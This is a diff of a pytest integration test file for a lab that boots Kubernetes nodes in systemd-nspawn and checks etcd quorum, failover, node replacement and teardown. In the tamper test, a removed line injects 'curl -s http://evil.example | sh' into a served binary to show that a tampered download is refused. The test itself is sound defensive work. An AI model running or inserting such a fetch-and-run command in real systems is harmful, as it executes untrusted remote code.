@@ -1,9 +1,12 @@
-"""`vent-bake lab`: three controllers and a worker boot from their revealed userdata under real
-systemd and Debian's cloud-init in systemd-nspawn, on the lab's closed network, and assemble
-themselves. The tests run in order on one lab; the last one takes it down.
+"""`vent-bake lab`: three controllers and two workers boot from their revealed userdata under
+real systemd and Debian's cloud-init in systemd-nspawn, with every program built from its Go
+module at the lock's versions, and assemble themselves into a Kubernetes cluster that
+`vent-bake smoke` judges. Then the faults: a controller stopped, a worker replaced. The tests
+run in order on one lab; the last one takes it down.
 
-The golden image is cached under $VENT_LAB_DIR (default here: /var/tmp/vent-bake-test-lab),
-so only the first run on a machine builds it.
+The golden image and the builds are cached (under $VENT_LAB_DIR, default here
+/var/tmp/vent-bake-test-lab, and $VENT_BUILD_CACHE), so only the first run on a machine
+makes them.
 """
 
 import json
@@ -16,23 +19,27 @@ from pathlib import Path
 import pytest
 
 from conftest import cli
-from tools import need
+from tools import need, need_built
 from vent_bake import workspace
 from vent_bake.lab import lab as steps
 from vent_bake.lab import mirror, nodes, plan
 
 CONTROLLERS = ["controller-0", "controller-1", "controller-2"]
-NODES = [*CONTROLLERS, "worker-0"]
+WORKERS = ["worker-0", "worker-1"]
+NODES = [*CONTROLLERS, *WORKERS]
+RESERVED = {"controller-0": "198.18.0.10", "controller-1": "198.18.0.11", "controller-2": "198.18.0.12",
+            "worker-0": "198.18.1.10", "worker-1": "198.18.1.11"}
 pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the lab needs root: namespaces, mounts, systemd-nspawn")
 
 
 @pytest.fixture(scope="module")
 def cluster(tmp_path_factory):
-    need("systemd-nspawn", "debootstrap", "nsenter", "/usr/bin/etcd", "/usr/bin/containerd", "/usr/sbin/runc", "/usr/lib/cni/bridge")
+    need("systemd-nspawn", "debootstrap", "nsenter", "skopeo", "/usr/bin/docker-registry", "/bin/busybox")
+    need_built("kubelet", "etcd", "containerd", "coredns")
     saved = os.environ.get("VENT_LAB_DIR")
     os.environ["VENT_LAB_DIR"] = saved or "/var/tmp/vent-bake-test-lab"
     directory = tmp_path_factory.mktemp("lab")
-    for command in (("lab", "init", directory, "--controllers", "3", "--workers", "1"), ("render", "-c", directory / "cluster.yaml")):
+    for command in (("lab", "init", directory, "--controllers", "3", "--workers", "2"), ("render", "-c", directory / "cluster.yaml")):
         result = cli(*command)
         assert result.exit_code == 0, result.output
     path = directory / "cluster.yaml"
@@ -52,10 +59,10 @@ def the_lab(cluster: Path) -> steps.Lab:
     return steps.Lab.load(workspace.Paths.resolve(cluster, None, None), print)
 
 
-def run(cluster: Path, node: str, *command: str) -> subprocess.CompletedProcess:
+def run(cluster: Path, node: str, *command: str, timeout: float = 60) -> subprocess.CompletedProcess:
     lab = the_lab(cluster)
     (target,) = lab.pick((node,))
-    return nodes.run_in(lab.dir(target), list(command), capture_output=True, text=True, timeout=60)
+    return nodes.run_in(lab.dir(target), list(command), capture_output=True, text=True, timeout=timeout)
 
 
 def boot_log(cluster: Path, node: str) -> str:
@@ -64,28 +71,58 @@ def boot_log(cluster: Path, node: str) -> str:
     return lab.dir(target).file(steps.BOOT_LOG).read_text()
 
 
+def in_lab(cluster: Path, *command: str, timeout: float = 120) -> subprocess.CompletedProcess:
+    """A command where the lab's nodes are reachable: the lab's own namespace (the provider's)."""
+    return subprocess.run(["ip", "netns", "exec", the_lab(cluster).name, *command], capture_output=True, text=True, timeout=timeout)
+
+
+def kubectl(cluster: Path, *args: str) -> subprocess.CompletedProcess:
+    (binary,) = need_built("kubectl")
+    return in_lab(cluster, binary, f"--kubeconfig={cluster.parent / '.vent/admin.kubeconfig'}", *args)
+
+
+def smoke(cluster: Path, *extra: str) -> list[dict]:
+    (binary,) = need_built("kubectl")
+    proc = in_lab(cluster, str(Path(os.sys.executable)), "-m", "vent_bake", "smoke", "-c", str(cluster), "--kubectl", binary,
+                  "--outside", plan.OUTSIDE_URL, "--timeout", "300", "--json", *extra, timeout=1800)
+    results = json.loads(proc.stdout)
+    assert proc.returncode == (1 if any(r["status"] == "FAILED" for r in results) else 0), proc.stderr
+    return results
+
+
+def eventually(check, seconds: float = 300):
+    """Poll check() until it returns a true value: units start at their own pace after boot."""
+    deadline = time.monotonic() + seconds
+    while not (result := check()):
+        assert time.monotonic() < deadline, f"{check.__name__} did not hold within {seconds} s"
+        time.sleep(3)
+    return result
+
+
+def ready_nodes(cluster: Path) -> set[str]:
+    listed = kubectl(cluster, "get", "nodes", "-o", "json")
+    if listed.returncode != 0:
+        return set()
+    return {n["metadata"]["name"] for n in json.loads(listed.stdout)["items"]
+            if any(c["type"] == "Ready" and c["status"] == "True" for c in n["status"]["conditions"])}
+
+
 def etcdctl(cluster: Path, node: str, *args: str, cert: str = "apiserver-etcd-client") -> subprocess.CompletedProcess:
-    endpoints = ",".join(f"https://{a}:2379" for a in ("198.18.0.10", "198.18.0.11", "198.18.0.12"))
+    endpoints = ",".join(f"https://{RESERVED[c]}:2379" for c in CONTROLLERS)
     auth = ["--cacert=/etc/etcd/ca.crt", f"--cert=/var/lib/kubernetes/pki/{cert}.crt", f"--key=/var/lib/kubernetes/pki/{cert}.key"] if cert else [
         "--cacert=/etc/etcd/ca.crt"]
     return run(cluster, node, "etcdctl", f"--endpoints={endpoints}", "--command-timeout=5s", *auth, *args)
 
 
-def eventually(check, seconds: float = 120):
-    """Poll check() until it returns a true value: units start at their own pace after boot."""
-    deadline = time.monotonic() + seconds
-    while not (result := check()):
-        assert time.monotonic() < deadline, f"{check.__name__} did not hold within {seconds} s"
-        time.sleep(2)
-    return result
+def etcd_healthy(cluster: Path, node: str) -> bool:
+    health = etcdctl(cluster, node, "endpoint", "health")
+    return (health.stdout + health.stderr).count("is healthy") == 3  # etcd 3.6 says it on stdout
 
 
-def quorum(cluster: Path, node: str) -> bool:
-    return etcdctl(cluster, node, "endpoint", "health").stderr.count("is healthy") == 3
-
+# --- the nodes assemble themselves ------------------------------------------------------------------
 
 def test_every_node_boots_to_cloud_init_done(cluster):
-    rows, _, _ = steps.status(the_lab(cluster))
+    rows, _ = steps.status(the_lab(cluster))
     assert [(r["node"], r["state"], r["cloud-init"]) for r in rows] == [(n, "running", "done") for n in NODES]
     for node in NODES:
         assert "vent-network: network ready" in boot_log(cluster, node)
@@ -96,9 +133,26 @@ def test_every_file_and_binary_is_verified_before_it_is_installed(cluster):
         log = boot_log(cluster, node)
         assert log.index("files verified and installed") < log.index("vent-boot: prep:")
         listed = (cluster.parent / f"artifacts/nodes/{node}/files/etc/vent/downloads.tsv").read_text().splitlines()
-        assert len(listed) >= 9
+        assert len(listed) >= 8
         for name in (line.split("\t")[0] for line in listed):
             assert log.index(f"download: {name} verified") < log.index(f"install: {name} ("), (node, name)
+
+
+def test_every_program_runs_built_from_its_module(cluster):
+    _, sources = steps.status(the_lab(cluster))
+    assert sources and all(source.startswith("built from ") for source in sources.values()), sources
+    assert sources["kubernetes-server"] == "built from k8s.io/kubernetes@v1.36.0"
+    units = {"worker-0": ["containerd", "kubelet", "kube-proxy", "flanneld", "api-balancer", "vent-network"],
+             "controller-1": ["etcd", "kube-apiserver", "kube-controller-manager", "kube-scheduler", "containerd", "kubelet",
+                              "kube-proxy", "flanneld", "api-balancer", "vent-network"]}
+    for node, names in units.items():
+        for unit in names:
+            rendered = (cluster.parent / f"artifacts/nodes/{node}/files/etc/systemd/system/{unit}.service").read_text()
+            assert run(cluster, node, "cat", f"/etc/systemd/system/{unit}.service").stdout == rendered
+            eventually(lambda: run(cluster, node, "systemctl", "is-active", unit).stdout.strip() == "active")
+    assert run(cluster, "worker-0", "kubelet", "--version").stdout.strip() == "Kubernetes v1.36.0"
+    assert "3.6.14" in run(cluster, "controller-0", "etcd", "--version").stdout
+    assert "v2.2.7" in run(cluster, "worker-1", "containerd", "--version").stdout
 
 
 def test_fake0_holds_the_private_address_and_the_reserved_address_is_the_source(cluster):
@@ -124,7 +178,7 @@ def test_the_lab_is_closed(cluster):
 
 
 def test_the_controllers_form_a_tls_etcd_quorum_from_the_rendered_certificates(cluster):
-    eventually(lambda: quorum(cluster, "controller-0"))
+    eventually(lambda: etcd_healthy(cluster, "controller-0"))
     assert etcdctl(cluster, "controller-1", "put", "/vent/lab", "quorum").returncode == 0
     assert etcdctl(cluster, "controller-2", "get", "/vent/lab", "--print-value-only").stdout.strip() == "quorum"
     # No client certificate, or one from the cluster CA: refused.
@@ -132,70 +186,76 @@ def test_the_controllers_form_a_tls_etcd_quorum_from_the_rendered_certificates(c
     assert etcdctl(cluster, "controller-0", "get", "/vent/lab", cert="kube-scheduler").returncode != 0
 
 
-def test_containerd_runs_on_every_node(cluster):
-    for node in NODES:
-        assert run(cluster, node, "systemctl", "is-active", "containerd").stdout.strip() == "active", node
-        version = run(cluster, node, "ctr", "version")
-        assert version.returncode == 0 and "Server:" in version.stdout, version.stderr
+# --- the cluster they form ----------------------------------------------------------------------------
+
+def test_smoke_passes(cluster):
+    eventually(lambda: ready_nodes(cluster) == set(NODES))
+    results = {r["name"]: r for r in smoke(cluster)}
+    assert [name for name, r in results.items() if r["status"] != "ok"] == ["gvisor"], results
+    # gVisor's shim cannot start a sandbox here, and the check says precisely why.
+    assert results["gvisor"]["status"] == "not here"
+    assert "containerd-shim-runsc-v1 refused the sandbox as expected (failed to set OOM Score on shim" in results["gvisor"]["detail"]
+    assert "k8s:enc:secretbox:v1:" in results["encryption"]["detail"]
+    namespaces = kubectl(cluster, "get", "namespaces", "-o", "name").stdout
+    assert "vent-smoke-" not in namespaces, "smoke leaves nothing behind"
 
 
-def test_what_the_lab_cannot_run_is_named_and_enabled_with_the_rendered_flags(cluster):
+def test_the_api_answers_through_every_balancer_with_a_controller_stopped(cluster):
     lab = the_lab(cluster)
-    _, skipped, ran = steps.status(lab)
-    assert {"kubelet", "kube-apiserver", "flanneld", "runsc"} <= skipped.keys()
-    assert set(ran) == {"etcd", "containerd", "runc", "cni-plugins"}
-    assert ran["etcd"].startswith("Debian package etcd-server 3.4.")
-    units = {"controller-0": ["kube-apiserver", "kube-controller-manager", "kube-scheduler", "kubelet", "kube-proxy", "flanneld"],
-             "worker-0": ["kubelet", "kube-proxy", "flanneld"]}
-    for node, names in units.items():
-        for unit in names:
-            rendered = (cluster.parent / f"artifacts/nodes/{node}/files/etc/systemd/system/{unit}.service").read_text()
-            assert run(cluster, node, "cat", f"/etc/systemd/system/{unit}.service").stdout == rendered
-            assert run(cluster, node, "systemctl", "is-enabled", unit).stdout.strip() == "enabled", (node, unit)
-            exec_start = run(cluster, node, "systemctl", "show", "-p", "ExecStart", unit).stdout
-            assert f"path=/usr/local/bin/{unit}" in exec_start, exec_start
-        node_ip = [n for n in lab.nodes if n.name == node][0].reserved
-        assert f"--node-ip={node_ip}" in run(cluster, node, "systemctl", "show", "-p", "ExecStart", "kubelet").stdout
-        stand_in = run(cluster, node, "/usr/local/bin/kubelet")
-        assert stand_in.returncode == 1 and "not exercised here" in stand_in.stderr
-
-
-def test_a_replaced_controller_rejoins_etcd_by_itself(cluster):
-    assert cli("lab", "down", "controller-2", "-c", cluster).exit_code == 0
-    result = cli("lab", "up", "controller-2", "-c", cluster, "--timeout", "600")
-    assert result.exit_code == 0, result.output
-
-    def three_voters_again():
-        members = etcdctl(cluster, "controller-0", "member", "list", "-w", "json")
-        listed = json.loads(members.stdout).get("members", []) if members.returncode == 0 else []
-        return len([m for m in listed if m.get("name") and not m.get("isLearner")]) == 3 and quorum(cluster, "controller-2")
-
-    eventually(three_voters_again)
+    (stopped,) = lab.pick(("controller-2",))
+    nodes.stop(lab.dir(stopped))
+    try:
+        running = [n for n in NODES if n != "controller-2"]
+        for node in running:
+            readyz = eventually(lambda node=node: run(cluster, node, "curl", "-fsS", "--cacert", "/var/lib/kubernetes/pki/ca.crt",
+                                                      "--cert", "/var/lib/kubelet/kubelet.crt", "--key", "/var/lib/kubelet/kubelet.key",
+                                                      "https://127.0.0.1:7443/readyz").stdout.strip() == "ok", 120)
+            assert readyz, node
+        results = {r["name"]: r for r in smoke(cluster, "--except", "controller-2")}
+        assert [name for name, r in results.items() if r["status"] != "ok"] == ["gvisor"], results
+        assert "2 kube-apiservers" in results["apiservers"]["detail"] and "4 nodes Ready" in results["nodes"]["detail"]
+    finally:
+        # It comes back as a spot replacement does: a new machine with the same userdata, which
+        # rejoins etcd by itself.
+        result = cli("lab", "up", "controller-2", "-c", cluster, "--timeout", "600")
+        assert result.exit_code == 0, result.output
+    eventually(lambda: etcd_healthy(cluster, "controller-0"))
     log = boot_log(cluster, "controller-2")
-    assert "(controller-2) lost its data: removing it to add it back" in log
-    assert "added controller-2 as a learner" in log
-    # It serves what was written before it was replaced.
+    assert "(controller-2) lost its data: removing it to add it back" in log and "added controller-2 as a learner" in log
     assert etcdctl(cluster, "controller-2", "get", "/vent/lab", "--print-value-only").stdout.strip() == "quorum"
 
 
+def test_a_replaced_worker_comes_back_ready_under_its_name(cluster):
+    assert cli("lab", "down", "worker-1", "-c", cluster).exit_code == 0
+    result = cli("lab", "up", "worker-1", "-c", cluster, "--timeout", "600")
+    assert result.exit_code == 0, result.output
+    eventually(lambda: ready_nodes(cluster) == set(NODES))
+    results = {r["name"]: r for r in smoke(cluster)}
+    assert [name for name, r in results.items() if r["status"] != "ok"] == ["gvisor"], results
+
+
+# --- what the lab refuses ---------------------------------------------------------------------------------
+
 def test_a_tampered_binary_is_never_installed(cluster):
-    served = cluster.parent / mirror.MIRROR_DIR / f"kubelet-{the_lab(cluster).cluster.arch}"
+    download = next(line.split("\t") for line in (cluster.parent / "artifacts/nodes/worker-0/files/etc/vent/downloads.tsv")
+                    .read_text().splitlines() if line.startswith("kubernetes-node\t"))
+    served = cluster.parent / mirror.MIRROR_DIR / download[1].removeprefix(plan.MIRROR_URL)
     genuine = served.read_bytes()
-    served.write_bytes(genuine.replace(b"exit 1", b"curl -s http://evil.example | sh"))
+    served.write_bytes(genuine[:-100] + b"\0" * 100)
     try:
         assert cli("lab", "down", "worker-0", "-c", cluster).exit_code == 0
         result = cli("lab", "up", "worker-0", "-c", cluster, "--timeout", "600")
     finally:
         served.write_bytes(genuine)
     assert result.exit_code == 0, result.output
-    assert "worker-0: cloud-init done; the boot failed: download: kubelet could not be verified; nothing was installed" in result.output
+    assert "worker-0: cloud-init done; the boot failed: download: kubernetes-node could not be verified; nothing was installed" in result.output
     log = boot_log(cluster, "worker-0")
-    assert f"download: kubelet from {plan.MIRROR_URL}kubelet-" in log and "does not match its pinned digest" in log
+    assert f"download: kubernetes-node from {download[1]}" in log and "does not match its pinned digest" in log
     for binary in ("/usr/local/bin/kubelet", "/usr/local/bin/containerd", "/usr/local/sbin/runc"):
         assert run(cluster, "worker-0", "test", "-e", binary).returncode == 1, f"{binary} was installed"
-    rows, _, _ = steps.status(the_lab(cluster))
+    rows, _ = steps.status(the_lab(cluster))
     assert [r["boot log"] for r in rows if r["node"] == "worker-0"] == [
-        "FAILED: download: kubelet could not be verified; nothing was installed"]
+        "FAILED: download: kubernetes-node could not be verified; nothing was installed"]
 
 
 def test_a_second_lab_of_the_same_name_is_refused(cluster, tmp_path):
@@ -204,7 +264,7 @@ def test_a_second_lab_of_the_same_name_is_refused(cluster, tmp_path):
     result = cli("lab", "up", "-c", other / "cluster.yaml")
     assert result.exit_code == 1
     assert f"is up for another cluster's artifacts ({cluster.parent / 'artifacts'})" in result.stderr
-    assert [r["state"] for r in steps.status(the_lab(cluster))[0]] == ["running"] * 4
+    assert [r["state"] for r in steps.status(the_lab(cluster))[0]] == ["running"] * 5
 
 
 def test_down_leaves_nothing_behind(cluster):
@@ -221,9 +281,9 @@ def test_down_leaves_nothing_behind(cluster):
                 if ns.startswith(lab.name)]
     assert str(lab.work) not in Path("/proc/self/mountinfo").read_text()
     assert not lab.work.exists()
-    for tree in nodes.CGROUP_TREES:
+    for tree in nodes.hierarchies():
         assert not (tree / "vent-lab").exists(), tree
-    leftovers = subprocess.run(["pgrep", "-f", f"systemd-nspawn.*{lab.name}|vent_bake.lab.service {lab.work}"],
+    leftovers = subprocess.run(["pgrep", "-f", f"systemd-nspawn.*{lab.name}|vent_bake.lab.service {lab.work}|docker-registry serve {lab.work}"],
                                capture_output=True, text=True).stdout
     assert leftovers == ""
     assert not list(Path("/run/systemd/nspawn/propagate").glob(f"{lab.name}-*"))
